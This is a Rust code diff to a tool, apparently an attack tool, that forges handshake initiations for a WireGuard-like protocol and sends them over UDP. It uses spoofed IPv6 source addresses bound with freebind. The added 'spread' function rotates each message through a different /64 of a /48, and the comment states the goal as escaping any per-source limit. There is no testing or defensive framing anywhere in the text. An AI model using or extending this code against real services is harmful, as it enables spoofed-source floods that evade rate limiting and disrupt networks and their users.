@@ -20,7 +20,7 @@ pub struct Forged {
     /// The public key of whom it goes to, in base64.
     #[serde(deserialize_with = "public_key")]
     pub public_key: [u8; 32],
-    /// A /64 that leads to the attacker; each message has another address of it.
+    /// A /48 that leads to the attacker; each message is from another /64 of it, and no limit of a source holds it.
     pub sources: Ipv6Addr,
 }
 
@@ -49,7 +49,7 @@ impl Forgery {
     pub fn send(&mut self, target: SocketAddr, index: usize) -> io::Result<Answers> {
         let socket = Socket::new(Domain::IPV6, Type::DGRAM.nonblocking(), Some(Protocol::UDP))?;
         socket.set_freebind_v6(true)?;
-        let from = SocketAddr::new(IpAddr::V6(super::inside(self.sources, index)), 0);
+        let from = SocketAddr::new(IpAddr::V6(spread(self.sources, index)), 0);
         socket.bind(&from.into())?;
         socket.send_to(&self.forger.initiation(index as u64), &target.into())?;
         self.open.push_back(socket.into());
@@ -64,6 +64,13 @@ impl Forgery {
             cookies: sum.cookies + one.cookies,
         })
     }
+}
+
+/// Another /64 of a /48 each time.
+fn spread(net: Ipv6Addr, index: usize) -> Ipv6Addr {
+    let host = (index as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
+    let subnet = u128::from(index as u16) << 64;
+    Ipv6Addr::from(u128::from(net) & (u128::MAX << 80) | subnet | u128::from(host))
 }
 
 fn answers(socket: &UdpSocket) -> Answers {
